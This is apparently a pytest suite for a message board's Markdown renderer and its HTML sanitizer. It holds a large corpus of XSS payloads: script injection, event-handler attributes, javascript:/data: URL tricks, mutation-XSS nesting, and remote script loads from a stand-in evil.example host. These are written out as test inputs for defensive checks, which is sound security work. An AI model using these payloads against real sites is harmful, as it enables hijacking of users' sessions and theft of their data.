"""Security and behaviour tests for board.markdown (pure: no database, no Django)."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from board import markdown
from board.markdown import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, URL_SCHEMES, plain_text, render

FORBIDDEN_TAGS = {
    "script",
    "iframe",
    "img",
    "svg",
    "style",
    "object",
    "embed",
    "form",
    "base",
    "meta",
    "link",
    "math",
    "frame",
    "frameset",
    "applet",
    "input",
    "button",
    "textarea",
    "select",
    "video",
    "audio",
    "source",
    "details",
    "template",
    "noscript",
    "h1",
    "div",
    "span",
}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "srcset", "poster"}
SAFE_SCHEMES = {"http", "https", "mailto"}
DANGEROUS_SCHEMES = {"javascript", "vbscript", "data", "file"}
_SCHEME = re.compile(r"([a-z][a-z0-9+.\-]*):")
# WHATWG URL parsing: leading/trailing C0 controls and spaces are stripped, tab/CR/LF are
# removed anywhere. (DEL and C1 controls are stripped too, to be conservative.)
_URL_EDGES = "".join(map(chr, range(0x21))) + "".join(map(chr, range(0x7F, 0xA0)))
_URL_TAB_NEWLINE = re.compile(r"[\t\n\r]")
# Stricter still: every control/space character removed anywhere.
_URL_NOISE = re.compile(r"[\x00-\x20\x7f-\x9f]")


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.comments: list[str] = []
        self.declarations: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    def handle_startendtag(self, tag, attrs):
        self.tags.append((tag, attrs))

    def handle_comment(self, data):
        self.comments.append(data)

    def handle_decl(self, decl):
        self.declarations.append(decl)

    def handle_pi(self, data):
        self.declarations.append(data)

    def unknown_decl(self, data):
        self.declarations.append(data)


def url_scheme(value: str) -> str | None:
    """The scheme a browser would see (None for relative / fragment URLs)."""
    cleaned = _URL_TAB_NEWLINE.sub("", value.strip(_URL_EDGES)).lower()
    match = _SCHEME.match(cleaned)
    return match.group(1) if match else None


def paranoid_scheme(value: str) -> str | None:
    """The scheme left once every control/space character is removed anywhere."""
    match = _SCHEME.match(_URL_NOISE.sub("", value).lower())
    return match.group(1) if match else None


def assert_safe(output: str) -> None:
    """The security invariants every rendered fragment must satisfy."""
    parser = _Collector()
    parser.feed(output)
    parser.close()
    assert not parser.comments, output
    assert not parser.declarations, output
    for tag, attrs in parser.tags:
        assert tag not in FORBIDDEN_TAGS, output
        assert tag in ALLOWED_TAGS, output
        allowed = ALLOWED_ATTRIBUTES.get(tag, frozenset()) | ({"rel"} if tag == "a" else set())
        for name, value in attrs:
            assert not name.startswith("on"), output
            assert name != "style", output
            assert name in allowed, output
            if name in URL_ATTRIBUTES:
                scheme = url_scheme(value or "")
                assert scheme is None or scheme in SAFE_SCHEMES, output
                assert paranoid_scheme(value or "") not in DANGEROUS_SCHEMES, output
        if tag == "a":
            rel = dict(attrs).get("rel") or ""
            assert {"nofollow", "noopener"} <= set(rel.split()), output
    # Belt and braces: every '<' in text is escaped, so no dangerous tag opener survives
    # even as a substring.
    lowered = output.lower()
    for tag in FORBIDDEN_TAGS:
        assert f"<{tag}" not in lowered, output
    # nh3 output must be stable when sanitized again (guards against mutation XSS, where
    # serialized output re-parses into a different, dangerous tree). A raw CR (from "&#xD;")
    # is serialized as-is and normalized to LF by the next parse: harmless, so allowed.
    assert markdown._clean(output) == output.replace("\r\n", "\n").replace("\r", "\n")


XSS_PAYLOADS = [
    # Raw script / HTML elements
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<img src=`javascript:alert(1)`>",
    '<img """><script>alert(1)</script>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<a href="javascript:alert(1)">x</a>',
    "<a href=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>x</a>",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p style="x:expression(alert(1))">x</p>',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<object data="javascript:alert(1)"></object>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<embed src="javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="import" href="//evil.example/x.html">',
    "<style>@import 'http://evil.example/x.css';</style>",
    "<style>body{background:url('javascript:alert(1)')}</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=alert(1)>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    # Markdown links and images
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](<javascript:alert(1)>)",
    "[x]( javascript:alert(1))",
    "[x](\x00javascript:alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](DATA:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    "[x](VBScript:msgbox(1))",
    "[x](file:///etc/passwd)",
    '[x](https://ok.example "title\\" onmouseover=\\"alert(1))',
    '[x](https://ok.example" onclick="alert(1))',
    '[x](https://ok.example/?q="><script>alert(1)</script>)',
    "![x](javascript:alert(1))",
    "![x](https://evil.example/track.gif)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    '![x"onerror="alert(1)](https://x.example/a.png)',
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[x][1]\n\n[1]: <javascript:alert(1)> 'title'",
    "[x]\n\n[x]: data:text/html;base64,PHNjcmlwdD4=",
    "[<img src=x onerror=alert(1)>](https://ok.example)",
    "[x](https://ok.example) <img src=x onerror=alert(1)>",
    "**<script>alert(1)</script>**",
    "# <script>alert(1)</script>",
    "> <iframe src=javascript:alert(1)>",
    "- <svg onload=alert(1)>",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | <img src=x onerror=alert(1)> |",
    # Code spans / blocks containing markup
    "`<img src=x onerror=alert(1)>`",
    '`<a href="javascript:alert(1)">x</a>`',
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\ncode\n```',
    "    <iframe src=javascript:alert(1)></iframe>",
    # Miscellaneous tricks
    '<a href="javascript&colon;alert(1)">x</a>',
    "<<script>script>alert(1)<</script>/script>",
    "<scRipt/src=//evil.example/x.js>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<div\x00onclick=alert(1)>x</div>",
    '<a href="https://ok.example" onclick="alert(1)">x</a>',
    '<a href="\x7fjavascript:alert(1)">x</a>',
    '<a href="\x01 javascript:alert(1)">x</a>',
    "[x](<\x7fjavascript:alert(1)>)",
    "<h1>outrank</h1>",
]


@pytest.mark.parametrize(
    ("href", "scheme"),
    [
        ("javascript:alert(1)", "javascript"),
        (" \x01JaVa\tScRiPt:alert(1)", "javascript"),
        ("java\nscript:x", "javascript"),
        ("https://a.example", "https"),
        ("/relative:path", None),
        ("#frag", None),
        ("j\x1fjavascript:x", None),  # \x1f inside the scheme makes it relative
    ],
)
def test_url_scheme_helper(href, scheme):
    assert url_scheme(href) == scheme


def test_corpus_is_large_enough():
    assert len(XSS_PAYLOADS) >= 50
    assert len(set(XSS_PAYLOADS)) == len(XSS_PAYLOADS)


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_xss_payload_is_neutralised(payload):
    assert_safe(render(payload))


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_xss_payload_inside_markdown_context(payload):
    text = f"# Title\n\nIntro *text* and [ok](https://ok.example).\n\n> {payload}\n\n- {payload}\n"
    assert_safe(render(text))


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_sanitizer_alone_neutralises_raw_html(payload):
    # Defence in depth: even if the Markdown layer passed raw HTML through, nh3 must hold.
    assert_safe(markdown._clean(payload))


DANGEROUS_FRAGMENTS = [
    "<script>",
    "</script>",
    "<img ",
    "<svg ",
    "<iframe ",
    "<style>",
    "<a href=",
    "javascript:",
    "JaVaScRiPt:",
    "vbscript:",
    "data:text/html,",
    "&#106;",
    "&#",
    "&#x",
    "&colon;",
    "onerror=",
    "onload=",
    "style=",
    "alert(1)",
    "](",
    "[",
    "]",
    "(",
    ")",
    "![",
    "<",
    ">",
    "/",
    '"',
    "'",
    "`",
    "```",
    "\n",
    "\n\n",
    "\t",
    " ",
    "\x00",
    "<!--",
    "-->",
    "# ",
    "> ",
    "- ",
    "1. ",
    "|",
    "|---|",
    "[1]: ",
    "\\",
    "**",
    "~~",
    "x",
    "https://ok.example",
    "mailto:a@b.example",
]

markdown_ish = st.lists(
    st.one_of(st.sampled_from(DANGEROUS_FRAGMENTS), st.text(max_size=4)), max_size=40
).map("".join)


@settings(max_examples=500, deadline=None)
@given(st.text())
def test_random_text_renders_safely(text):
    assert_safe(render(text))
    plain_text(text)  # must not raise


@settings(max_examples=500, deadline=None)
@given(markdown_ish)
def test_dangerous_fragment_soup_renders_safely(text):
    assert_safe(render(text))


@settings(max_examples=500, deadline=None)
@given(markdown_ish)
def test_dangerous_fragment_soup_sanitizer_alone(text):
    assert_safe(markdown._clean(text))


# --- Positive behaviour -------------------------------------------------------------------


def tags_of(output: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = _Collector()
    parser.feed(output)
    parser.close()
    return [(tag, dict(attrs)) for tag, attrs in parser.tags]


def test_constants_are_the_documented_allow_lists():
    assert "img" not in ALLOWED_TAGS
    assert "h1" not in ALLOWED_TAGS
    assert {"h2", "h3", "h4", "a", "table", "pre", "code"} <= ALLOWED_TAGS
    assert ALLOWED_ATTRIBUTES["a"] == {"href", "title"}
    assert URL_SCHEMES == {"http", "https", "mailto"}


def test_headings_never_outrank_the_page_title():
    out = render("# One\n\n## Two\n\n### Three\n\n###### Six")
    assert out.startswith("<h2>One</h2>")
    assert "<h3>Two</h3>" in out
    assert "<h4>Three</h4>" in out
    assert "<h4>Six</h4>" in out
    assert "<h1" not in out
    assert "<h2>Setext</h2>" in render("Setext\n======")


def test_inline_emphasis_and_strikethrough():
    out = render("**bold** *italic* _also_ ~~gone~~")
    assert "<strong>bold</strong>" in out
    assert "<em>italic</em>" in out
    assert "<em>also</em>" in out
    assert "<s>gone</s>" in out


def test_lists():
    out = render("- a\n- b\n\n3. c\n4. d")
    assert "<ul>\n<li>a</li>\n<li>b</li>\n</ul>" in out
    assert '<ol start="3">' in out
    assert "<li>d</li>" in out


def test_code_content_is_escaped():
    out = render("Use `<b>` here.\n\n```python\nif a < b and c > d: print('<b>')\n```")
    assert "<code>&lt;b&gt;</code>" in out
    assert "&lt;b&gt;" in out
    assert "<pre><code>if a &lt; b and c &gt; d:" in out
    assert ("b", {}) not in tags_of(out)


def test_blockquote_and_rule():
    out = render("> wise words\n\n---")
    assert "<blockquote>\n<p>wise words</p>\n</blockquote>" in out
    assert "<hr>" in out


def test_tables_with_safe_alignment():
    out = render("| Paese | Quota |\n|:--|--:|\n| DE | 12% |")
    assert "<table>" in out
    assert '<th align="left">Paese</th>' in out
    assert '<td align="right">12%</td>' in out
    assert "style=" not in out


@pytest.mark.parametrize(
    ("source", "href"),
    [
        ("[site](https://camcom.example/export)", "https://camcom.example/export"),
        ("[site](http://camcom.example)", "http://camcom.example"),
        ("[write](mailto:info@club.example)", "mailto:info@club.example"),
        ("<https://camcom.example>", "https://camcom.example"),
        ("<info@club.example>", "mailto:info@club.example"),
        ("[ref][1]\n\n[1]: https://camcom.example/ref", "https://camcom.example/ref"),
        ("[rel](/board/42/)", "/board/42/"),
        ("[frag](#comments)", "#comments"),
    ],
)
def test_safe_links_keep_href_and_get_rel(source, href):
    links = [attrs for tag, attrs in tags_of(render(source)) if tag == "a"]
    assert len(links) == 1
    assert links[0]["href"] == href
    rel = links[0]["rel"].split()
    assert "nofollow" in rel
    assert "noopener" in rel


def test_link_title_is_kept():
    links = [a for tag, a in tags_of(render('[x](https://a.example "Hi")')) if tag == "a"]
    assert links == [{"href": "https://a.example", "title": "Hi", "rel": markdown.LINK_REL}]


def test_rejected_link_stays_visible_as_text():
    out = render("[x](javascript:alert(1))")
    assert out == "<p>[x](javascript:alert(1))</p>\n"


def test_images_become_plain_links():
    out = render("![chart](https://stats.example/chart.png)")
    assert "<img" not in out
    assert tags_of(out)[1] == (
        "a",
        {"href": "https://stats.example/chart.png", "rel": markdown.LINK_REL},
    )
    assert ">chart</a>" in out


def test_raw_html_is_shown_escaped_not_dropped():
    out = render('Hi <b>there</b> <script>alert("x")</script>')
    assert out == ('<p>Hi &lt;b&gt;there&lt;/b&gt; &lt;script&gt;alert("x")&lt;/script&gt;</p>\n')
    block = render("<div onclick=alert(1)>\nx\n</div>")
    assert "&lt;div onclick=alert(1)&gt;" in block
    assert tags_of(block) == [("p", {})]


def test_html_comment_is_shown_escaped():
    assert render("<!-- secret -->") == "<p>&lt;!-- secret --&gt;</p>\n"


def test_empty_input():
    assert render("") == ""
    assert plain_text("") == ""


def test_render_is_deterministic():
    text = "# T\n\n[a](https://a.example) | x |\n\n| a |\n|---|\n| b |"
    assert render(text) == render(text)


def test_plain_text_is_readable():
    text = (
        "# Fiera di Monaco\n\n"
        "Siamo andati con **tre** colleghi & abbiamo [scritto](https://a.example) 5 < 6.\n\n"
        "- primo\n- secondo\n\n"
        "```\n<b>codice</b>\n```\n"
    )
    result = plain_text(text)
    assert result == (
        "Fiera di Monaco\n"
        "Siamo andati con tre colleghi & abbiamo scritto 5 < 6.\n\n"
        "primo\nsecondo\n\n"
        "<b>codice</b>"
    )


def test_plain_text_has_no_markup_from_markdown():
    result = plain_text("**a** [b](https://b.example) ![c](https://c.example/c.png)")
    assert result == "a b !c"


def test_lone_surrogates_do_not_crash():
    assert render("a\ud800b") == "<p>a\ufffdb</p>\n"
    assert plain_text("\udfff") == "\ufffd"


@pytest.mark.parametrize(
    "href", ["\x7fjavascript:alert(1)", "\x85javascript:x", " https://a.example"]
)
def test_sanitizer_drops_href_with_control_characters(href):
    out = markdown._clean(f'<a href="{href}">x</a>')
    assert out == f'<a rel="{markdown.LINK_REL}">x</a>'
